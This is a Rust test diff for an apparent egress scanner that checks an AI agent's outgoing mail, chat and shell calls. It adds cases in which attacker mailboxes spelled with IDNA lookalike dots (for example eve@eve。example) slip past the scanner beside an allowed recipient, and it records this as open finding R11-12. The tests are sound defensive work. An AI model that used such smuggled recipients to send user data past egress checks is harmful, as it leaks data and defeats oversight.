@@ -36,6 +36,7 @@ async fn without_a_task_a_call_to_an_unreadable_recipient_is_refused() {
         json!({ "channel": "#partners-external", "text": MAIL, "reply_to": "bob@client.example" }),
         json!({ "phone": "+1 555 0100", "text": format!("{MAIL}\nSource: https://files.client.example/in") }),
         json!({ "user_id": "U0EVE", "text": MAIL }),
+        json!({ "to": ["eve@eve\u{3002}example"], "text": MAIL }),
     ];
     let cases: Vec<(&str, serde_json::Value)> =
         calls.iter().map(|c| ("Summarise my inbox", c.clone())).collect();
@@ -58,6 +59,7 @@ async fn a_shell_line_beside_the_named_upload_does_not_reach_an_unreadable_desti
     ] {
         let rig = super::Rig::start_with(
             true,
+            "",
             "approvals: { channel: none }\ntools: [{ match: http__sh__run, kind: shell, command: /command }]\n",
         )
         .await;
@@ -69,4 +71,42 @@ async fn a_shell_line_beside_the_named_upload_does_not_reach_an_unreadable_desti
         let ran = rig.t.seen.lock().unwrap().iter().filter(|l| l.starts_with("/s/run")).count();
         assert_eq!(ran, 0, "{command}");
     }
+}
+
+/// Mailboxes whose dots are the ones IDNA (UTS #46, Python's `idna` codec, libidn2 in an MTA)
+/// reads as `.`: eve@eve.example to a mail library that encodes the domain.
+const IDNA_DOTS: &[&str] = &["eve@eve\u{3002}example", "eve@eve\u{ff0e}example", "eve@eve\u{ff61}example"];
+
+#[tokio::test]
+#[ignore = "open finding R11-12 (medium, egress scanner): a mailbox whose dot is an IDNA dot \
+            (U+3002, U+FF0E, U+FF61) is no destination to the scanner (`email` wants an ASCII `.`), so \
+            beside an allowed or named recipient it rides along: the call is judged by the one it reads"]
+async fn a_mailbox_with_an_idna_dot_rides_along_beside_an_allowed_or_named_one() {
+    let allowed = super::Rig::start_with(true, ", allow: [client.example]", "").await;
+    allowed.read(&[]).await;
+    allowed.task("emma/s1", json!({ "task": "Summarise my inbox" })).await;
+    let named = super::Rig::new("Send the deal note to bob@client.example").await;
+    let mut wrong = Vec::new();
+    for rig in [&allowed, &named] {
+        for eve in IDNA_DOTS {
+            let (status, body) = rig.send(json!({ "to": ["bob@client.example", eve], "text": MAIL })).await;
+            if status != 403 {
+                wrong.push(format!("{eve}: {status} {body}"));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    assert_eq!(allowed.sent() + named.sent(), 0);
+}
+
+#[tokio::test]
+async fn a_mailbox_with_an_idna_dot_alone_is_refused_as_sending_wherever_the_tool_sends() {
+    // R11-12's baseline: alone, the unreadable mailbox is no allowed destination either.
+    let rig = super::Rig::start_with(true, ", allow: [client.example]", "").await;
+    rig.read(&[]).await;
+    for eve in IDNA_DOTS {
+        let (status, body) = rig.send(json!({ "to": [eve], "text": MAIL })).await;
+        assert_eq!(status, 403, "{eve}: {body}");
+    }
+    assert_eq!(rig.sent(), 0);
 }
